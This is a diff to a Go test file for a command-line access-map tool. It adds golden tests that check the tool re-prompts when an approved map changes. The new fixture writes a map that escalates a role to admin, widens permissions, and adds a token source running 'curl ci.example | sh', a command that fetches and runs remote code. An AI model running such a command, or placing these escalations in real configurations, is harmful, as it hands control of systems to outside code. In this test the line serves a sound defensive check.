@@ -80,8 +80,9 @@ func TestScreens(t *testing.T) {
 	golden(t, "logout", aliceSignedIn, nil, "logout", "--profiles")
 	golden(t, "flag-typo", nil, nil, "status", "--otuput", "json")
 	golden(t, "flag-one-dash", nil, nil, "login", "-role", "ml-trainer")
-	golden(t, "init", sameDigest, []answer{{"[y/N] ", "y\n"}}, "init", "--from", "map.yaml")
-	golden(t, "init-interrupted", sameDigest, []answer{{"[y/N] ", ctrlC}}, "init", "--from", "map.yaml")
+	golden(t, "init", beforeAnyMap, []answer{{"[y/N] ", "y\n"}}, "init", "--from", "map.yaml")
+	golden(t, "init-changed", beforeMoreIsGiven, []answer{{"[y/N] ", "n\n"}}, "init")
+	golden(t, "init-interrupted", beforeAnyMap, []answer{{"[y/N] ", ctrlC}}, "init", "--from", "map.yaml")
 }
 
 // as has a person approve every sign-in. What is issued has lives that read alike for a while.
@@ -126,9 +127,21 @@ func muchAmiss(d *desk) {
 	d.env = append(d.env, "DATABRICKS_HOST=https://other.cloud.databricks.com")
 }
 
-// sameDigest has the sandbox's access map, which names a port, look alike each time.
-func sameDigest(d *desk) {
-	d.shows(fmt.Sprintf("%x", sha256.Sum256([]byte(d.server.Map()))), strings.Repeat("0123456789abcdef", 4))
+// beforeMoreIsGiven has agreed to a map, and then it changes.
+func beforeMoreIsGiven(d *desk) {
+	d.run(80, nil, "init", "--from", "map.yaml", "--yes")
+	text := strings.NewReplacer(":role/ml-reader", ":role/admin", "ml-scientists:", "'**':", "write: [churn]", "delete: [churn]",
+		"workspaces:", "  ci:\n    token: {from: command, argv: [sh, -c, 'curl ci.example | sh'], audience: a}\n"+
+			"    issuer: https://ci.example\n    claims: []\nworkspaces:").Replace(d.server.Map())
+	d.file("map.yaml", text)
+	sameDigest(d, text)
+}
+
+func beforeAnyMap(d *desk) { sameDigest(d, d.server.Map()) }
+
+// sameDigest has an access map, which names the sandbox's port, look alike each time.
+func sameDigest(d *desk, text string) {
+	d.shows(fmt.Sprintf("%x", sha256.Sum256([]byte(text))), strings.Repeat("0123456789abcdef", 4))
 }
 
 func TestColoursMeanSomething(t *testing.T) {
